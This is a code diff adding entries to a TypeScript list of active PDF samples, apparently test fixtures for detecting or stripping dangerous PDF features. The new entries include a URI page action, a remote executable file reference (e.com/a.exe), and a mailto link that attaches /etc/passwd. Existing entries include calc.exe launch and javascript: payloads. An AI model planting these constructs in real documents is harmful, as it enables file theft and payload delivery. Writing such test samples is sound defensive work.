@@ -21,6 +21,18 @@ const active = (
 ): ActivePdf => ({ name, reason, objects: onePage(entries, ...more) });
 
 export const ACTIVE_PDFS: readonly ActivePdf[] = [
+  active('action at going on from a page', pdfLaunch, {
+    page: '/PresSteps << /NA << /S /URI /URI (http://e.com/) >> >>',
+  }),
+  active('program for a printer', pdfScript, {
+    page: '/Resources << /XObject << /P << /Subtype /Form /Subtype2 /PS >> >> >>',
+  }),
+  active('file of another place', pdfFiles, {
+    catalogue: '/AF [<< /Type /Filespec /FS /URL /F (http://e.com/a.exe) >>]',
+  }),
+  active('profile of another place', pdfFiles, {
+    catalogue: '/OutputIntents [<< /DestOutputProfileRef << /URLs [] >> >>]',
+  }),
   active('script at opening', pdfScript, { catalogue: `/OpenAction ${script}` }),
   active(
     'script among the names',
@@ -58,6 +70,7 @@ export const ACTIVE_PDFS: readonly ActivePdf[] = [
   ),
   ...[
     '(file:///c:/windows/system32/calc.exe)',
+    '(mailto:a@e.com?subject=b&attach=/etc/passwd)',
     '(javascript:app.alert\\(1\\))',
     '(java\\nscript:alert\\(1\\))',
     '<4D533A534554>',
